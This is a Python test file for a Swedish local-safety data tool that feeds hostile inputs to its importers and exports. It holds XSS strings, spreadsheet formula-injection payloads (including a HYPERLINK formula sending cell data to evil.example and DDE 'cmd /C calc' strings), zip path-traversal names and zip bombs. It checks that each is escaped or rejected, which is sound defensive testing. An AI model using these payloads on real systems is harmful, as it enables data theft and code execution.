"""Hostile input, one file per attack (tests/hostile/, or built here when too large to commit):

- HTML or script in free text, place names and area names is stored as text and never reaches map
  HTML unescaped; names that are not configured are quarantined with a Swedish reason;
- spreadsheet formulas in free text are neutralised in every CSV and Excel export;
- a zip bomb, path traversal or a symlink inside a zipped Shapefile, malformed GeoJSON, a CSV with
  10,000 columns or a 1 GB line, and deeply nested JSON for the police importer are rejected with
  the exact Swedish message, and nothing in the store changes.
"""
from __future__ import annotations

import csv
import io
import json
import re
import resource
import subprocess
import sys
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tsk import exports, geo, maps
from tsk.cli import main
from tsk.config import ROOT
from tsk.errors import FileRejected
from tsk.i18n import t
from tsk.importers import reading
from tsk.ingest.run import run_import
from tsk.store import open_store

HOSTILE = Path(__file__).parent / "hostile"
FILES = Path(__file__).parent / "files"
MB = 1 << 20

SCRIPT = '<script>alert("tsk-xss")</script>'
IMG = '<img src=x onerror=alert("tsk-xss")>'
BOLD = '<b onmouseover=alert("tsk-xss")>Polisen</b>'
# What must never appear in a map page, not even after resolving JSON escapes (\u003c …).
RAW_MARKUP = ("<script>alert(", "<img src=x", "<b onmouseover", "</script>alert")
FORMULAS = {
    '=HYPERLINK("http://evil.example/?"&A1;"Klicka")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
}
SURVEY_FORMULA = '=HYPERLINK("http://evil.example","Torget i Svenljunga")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def counts(db: Path) -> dict:
    with open_store(db, read_only=True) as store:
        return store.counts()


def table(db: Path, name: str):
    with open_store(db, read_only=True) as store:
        return store.table(name)


@pytest.fixture
def db(config, tmp_path) -> Path:
    """A store with the demo's area polygons and one small lägesbild import."""
    path = tmp_path / "tsk.duckdb"
    run_import("areas", ROOT / "data" / "demo" / "omraden.geojson", db=path, config=config, name_field="omrade")
    run_import("lagesbild", FILES / "lagesbild_standard_utf8.csv", db=path, config=config)
    return path


def decoded(page: str) -> str:
    """The page with JSON \\uXXXX escapes resolved: what ends up as text/HTML in the browser."""
    return re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), page)


def assert_no_raw_markup(page: str) -> None:
    for text in (page, decoded(page)):
        found = [m for m in RAW_MARKUP if m in text]
        assert found == [], found


def window(config) -> dict:
    return dict(areas=[a.name for a in config.areas], orgs=[o.name for o in config.organisations],
                cats=[c.key for c in config.categories], week_from=date(2000, 1, 3), week_to=date(2100, 1, 4))


# --- HTML and script in free text and names ------------------------------------------------------------

def test_html_in_a_lagesbild_file_is_stored_as_text_and_unknown_names_quarantined(config, db):
    outcome = run_import("lagesbild", HOSTILE / "lagesbild_html_and_formulas.csv", db=db, config=config)
    assert (outcome.accepted, outcome.quarantined) == (6, 2)
    rows = table(db, "lagesbild")
    assert SCRIPT in set(rows["comment"]) and FORMULAS <= set(rows["comment"])
    # A place typed freely is kept at ort level with the name as written, as text, for review.
    typed = rows[rows["place_text"].notna()]
    assert typed[["ort", "place_text"]].values.tolist() == [["Kalv", IMG]] and typed["place"].isna().all()
    q = table(db, "quarantine").query("import_id == @outcome.import_id").set_index("row_number")
    assert q.loc[7, "reason"] == t("unknown_ort", name=SCRIPT)
    assert 8 not in q.index
    assert q.loc[9, "reason"] == t("unknown_organisation", name=BOLD) + " " + t("suggestions", names="Polisen, Svenbo")
    assert json.loads(q.loc[7, "original_row"])["Ort"] == SCRIPT  # the original row, as it was


def test_html_in_a_survey_free_text_answer_is_stored_as_text(config, db):
    outcome = run_import("survey", HOSTILE / "survey_html_free_text.csv", db=db, config=config)
    assert (outcome.accepted, outcome.quarantined) == (2, 1)
    texts = table(db, "survey_texts").set_index("place")["text"]
    assert texts["Badplatsen"] == f"{SCRIPT} badplatsen i Överlida"  # still tied to the place it names
    assert texts["Torget"] == SURVEY_FORMULA
    reasons = set(table(db, "quarantine")["reason"])
    assert t("unknown_ort", name=SCRIPT) in reasons


def test_an_area_named_with_a_script_is_quarantined_and_nothing_else_changes(config, db):
    before = counts(db)
    outcome = run_import("areas", HOSTILE / "areas_html_name.geojson", db=db, config=config, name_field="omrade")
    assert (outcome.accepted, outcome.quarantined) == (0, 1)
    q = table(db, "quarantine").query("import_id == @outcome.import_id")
    assert q["reason"].tolist() == [t("unknown_area", name=SCRIPT)]
    assert counts(db) == before | {"quarantine": before["quarantine"] + 1, "imports": before["imports"] + 1}


def test_no_uploaded_markup_reaches_any_map_html(config, db):
    """The maps the pages draw, from the store after hostile imports, and the same maps fed the
    hostile names and quarantine reasons directly (as if a later page showed them)."""
    run_import("lagesbild", HOSTILE / "lagesbild_html_and_formulas.csv", db=db, config=config)
    run_import("survey", HOSTILE / "survey_html_free_text.csv", db=db, config=config)
    run_import("areas", HOSTILE / "areas_html_name.geojson", db=db, config=config, name_field="omrade")
    with open_store(db, read_only=True) as store:
        areas = store.area_geometries()
        places = store.lagesbild_places(**window(config))
        mentions = store.survey_place_mentions(year_from=2000, year_to=2100)
        quarantine = store.table("quarantine")
    assert len(areas) == len(config.areas) and not places.empty and not mentions.empty
    hostile_names = [SCRIPT, IMG, BOLD]
    reasons = [r for r in quarantine["reason"] if "<" in r]
    assert len(reasons) >= 4

    pages = {
        "lägesbild": maps.places_map(areas, places, None),
        "trygghet": maps.places_map(areas, mentions.rename(columns={"mentions": "reports"}), None,
                                    count_words=("svar", "svar"), legend_text=SCRIPT),
    }
    named = places.copy()
    named["ort"] = [hostile_names[i % 3] for i in range(len(named))]
    named["plats"] = [reasons[i % len(reasons)] for i in range(len(named))]
    police = named[["ort", "lat", "lon"]].assign(events=3)
    renamed = areas.assign(name=[hostile_names[i % 3] + str(i) for i in range(len(areas))])
    for meeting in (False, True):
        pages[f"platser med fientliga namn {meeting}"] = maps.places_map(renamed, named, police, meeting=meeting)
        pages[f"områden med fientliga namn {meeting}"] = maps.area_map(
            renamed.assign(value=range(len(renamed)), n=50), value_col="value", n_col="n", value_label=reasons[0],
            n_label=IMG, selected=renamed["name"].iloc[0], suppressed_text=SCRIPT, meeting=meeting)
    for m in pages.values():
        page = maps.map_html(m)
        assert_no_raw_markup(page)
    shown = decoded(maps.map_html(pages["områden med fientliga namn False"]))
    assert maps.esc(SCRIPT + "0") in shown  # the name is shown, as text


# --- formulas in free text: every export neutralises them ----------------------------------------------

def export_frames(config, db: Path) -> dict:
    run_import("lagesbild", HOSTILE / "lagesbild_html_and_formulas.csv", db=db, config=config)
    run_import("survey", HOSTILE / "survey_html_free_text.csv", db=db, config=config)
    w = window(config)
    with open_store(db, read_only=True) as store:
        return {
            "Badplatsen": store.place_timeline(ort="Överlida", plats="Badplatsen", orgs=w["orgs"], cats=w["cats"],
                                               week_from=w["week_from"], week_to=w["week_to"]),
            "Kalv": store.place_timeline(ort="Kalv", plats=None, orgs=w["orgs"], cats=w["cats"],
                                         week_from=w["week_from"], week_to=w["week_to"]),
            "Fritext": store.table("survey_texts"),
            "Karantän": store.table("quarantine"),
        }


def test_formulas_in_free_text_are_neutralised_in_csv_exports(config, db):
    frames = export_frames(config, db)
    seen = set()
    for frame in frames.values():
        text = exports.to_csv_bytes(frame).decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
            for cell in row:
                if cell.startswith(TRIGGERS):
                    assert re.fullmatch(r"-\d+(,\d+)?", cell), cell  # only real negative numbers
                if cell.startswith("'"):
                    seen.add(cell[1:])
    assert FORMULAS | {SURVEY_FORMULA} <= seen


def test_formulas_in_free_text_are_neutralised_in_xlsx_exports(config, db):
    frames = export_frames(config, db)
    wb = load_workbook(io.BytesIO(exports.to_xlsx_bytes(frames)))
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(TRIGGERS), (ws.title, cell.coordinate, cell.value)
                    if cell.value.startswith("'"):
                        seen.add(cell.value[1:])
    assert FORMULAS | {SURVEY_FORMULA} <= seen


# --- rejected files: the exact Swedish message, and nothing changes --------------------------------------

REJECTED = [
    ("areas", "geojson_truncated.geojson", t("geo_json_broken", line=1, col=176)),
    ("areas", "geojson_list.geojson", t("geo_json_not_geojson")),
    ("areas", "geojson_features_not_list.geojson", t("geo_json_not_geojson")),
    ("areas", "geojson_bad_coordinates.geojson", t("geo_no_geometry")),
    ("areas", "geojson_nested.geojson", t("geo_json_too_deep")),
    ("areas", "geojson_binary.geojson", t("geo_json_not_text")),
    ("areas", "shapefile_path_traversal.zip", t("geo_zip_unsafe_name", name="../../tsk_evil.shp")),
    ("areas", "shapefile_absolute_path.zip", t("geo_zip_unsafe_name", name="/tmp/tsk_evil.shp")),
    ("areas", "shapefile_windows_traversal.zip", t("geo_zip_unsafe_name", name="..\\..\\tsk_evil.shp")),
    ("areas", "shapefile_symlink.zip", t("geo_zip_unsafe_name", name="layer.shp")),
    ("areas", "shapefile_zip_bomb.zip", t("geo_zip_bomb", name="layer.shp", ratio="1029")),
    ("areas", "shapefile_lying_sizes.zip", t("geo_zip_broken")),
    ("police", "police_nested_arrays.json", t("police_too_deep")),
    ("police", "police_nested_objects.json", t("police_too_deep")),
    ("police", "police_event_with_nested_field.json", t("police_too_deep")),
]


def test_every_committed_hostile_file_is_small():
    sizes = {p.name: p.stat().st_size for p in HOSTILE.iterdir()}
    assert {name for name, size in sizes.items() if size >= 100 * 1024} == set()
    from tests import test_hostile_budgets

    used = {name for _, name, _ in REJECTED} | {"lagesbild_html_and_formulas.csv", "survey_html_free_text.csv",
                                               "areas_html_name.geojson", "README.md"}
    from tests import test_hostile_values

    used |= {name for name, _ in test_hostile_budgets.COMMITTED}  # the files over a budget
    used |= {name for _, name, _, _ in test_hostile_values.REFUSED} | {  # implausible values
        "lagesbild_year_9999.csv", "survey_year_9999.csv", "police_id_too_big.json", "police_year_9999.json",
        "police_gps_infinite.json", "areas_europe_named_hogvad.geojson"}
    from tests import test_hostile_more

    used |= {name for _, name, _ in test_hostile_more.REFUSED} | {
        "lagesbild_impossible_weeks.csv", "lagesbild_dates_far_ahead.csv", "police_missing_and_bad_ids.json"}
    from tests import test_places_import

    used |= set(test_places_import.HOSTILE_FILES)  # point layers of the places import
    assert set(sizes) == used  # every file here is tested


@pytest.mark.parametrize("source,name,message", REJECTED, ids=[n for _, n, _ in REJECTED])
def test_hostile_file_is_rejected_with_its_message_and_nothing_changes(config, db, source, name, message):
    before = counts(db)
    escaped = [Path("/tmp/tsk_evil.shp"), Path("/tsk_evil.shp"), Path("/tmp").parent / "tsk_evil.shp"]
    assert not any(p.exists() for p in escaped)
    with pytest.raises(FileRejected) as err:
        run_import(source, HOSTILE / name, db=db, config=config)
    assert err.value.message == message
    assert counts(db) == before
    assert not any(p.exists() for p in escaped)  # nothing was extracted outside


def test_a_hostile_file_through_the_cli_exits_2_with_the_message(config, db, capsys):
    before = counts(db)
    code = main(["import", "police", str(HOSTILE / "police_nested_arrays.json"), "--db", str(db)])
    assert code == 2
    assert capsys.readouterr().err == t("police_too_deep") + "\n"
    assert counts(db) == before


def test_a_zip_declaring_more_than_the_limit_is_rejected_before_extracting(config, db, tmp_path):
    path = tmp_path / "bomb_total.zip"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        with zf.open("layer.shp", "w", force_zip64=True) as dst:
            chunk = bytes(MB)
            for _ in range(geo.MAX_FILE_BYTES // MB + 10):
                dst.write(chunk)
        zf.writestr("layer.shx", bytes(100))
        zf.writestr("layer.dbf", bytes(100))
    total = sum(i.file_size for i in zipfile.ZipFile(path).infolist())
    before = counts(db)
    with pytest.raises(FileRejected) as err:
        run_import("areas", path, db=db, config=config)
    assert err.value.message == t("geo_zip_too_large", size=f"{total / MB:.0f}", max=f"{geo.MAX_FILE_BYTES / MB:.0f}")
    assert counts(db) == before


def test_a_csv_with_10000_columns_is_rejected(config, db, tmp_path):
    path = tmp_path / "bred.csv"
    header = ";".join(f"Fråga {i}" for i in range(10_000))
    path.write_text(header + "\n" + ";".join("x" for _ in range(10_000)) + "\n", encoding="utf-8")
    before = counts(db)
    with pytest.raises(FileRejected) as err:
        run_import("lagesbild", path, db=db, config=config)
    assert err.value.message == t("file_too_many_columns", n=10_000, max=reading.MAX_COLUMNS)
    assert counts(db) == before


def test_a_csv_with_a_1_gb_line_is_rejected_without_reading_it_into_memory(db, tmp_path):
    """The file is written here (streamed, never committed) and imported by a separate process, whose
    peak memory is measured; its address space is capped at 2 GB so that a regression fails quickly
    instead of swapping the machine."""
    path = tmp_path / "lang_rad.csv"
    try:
        with open(path, "wb") as f:
            f.write("Vecka;Datum;Organisation;Inrapportör;Ort;Plats;Kategori;Bedömning;Kommentar\n".encode())
            f.write(b"v47 2026;;Polisen;Kommunpolis Svenljunga;Kalv;;Klotter;1;")
            chunk = b"A" * MB
            for _ in range(1024):
                f.write(chunk)
            f.write(b"\n")
        size = path.stat().st_size
        before = counts(db)

        def cap_memory():
            resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))

        # The peak is read from the child's own /proc/self/status (VmHWM) when it exits: ru_maxrss of a
        # forked child starts at the size of this test process, which grows with the suite.
        peak_file = tmp_path / "peak_kb"
        child = ("import atexit, runpy, sys\n"
                 "def peak():\n"
                 "    hwm = [l for l in open('/proc/self/status') if l.startswith('VmHWM:')][0].split()[1]\n"
                 f"    open({str(peak_file)!r}, 'w').write(hwm)\n"
                 "atexit.register(peak)\n"
                 "sys.argv = ['tsk', *sys.argv[1:]]\n"
                 "runpy.run_module('tsk', run_name='__main__')\n")
        proc = subprocess.Popen([sys.executable, "-c", child, "import", "lagesbild", str(path), "--db", str(db)],
                                cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, preexec_fn=cap_memory)
        try:
            _, err = proc.communicate(timeout=120)
        except subprocess.TimeoutExpired:
            proc.kill()
            raise
        err = err.decode()
        assert proc.returncode == 2, err
        assert err == t("file_too_large", size=f"{size / MB:.0f}", max=f"{reading.MAX_FILE_BYTES / MB:.0f}") + "\n"
        peak_mb = int(peak_file.read_text()) / 1024  # kilobytes
        assert peak_mb < 400, f"the import process peaked at {peak_mb:.0f} MB"
        assert counts(db) == before
    finally:
        path.unlink(missing_ok=True)
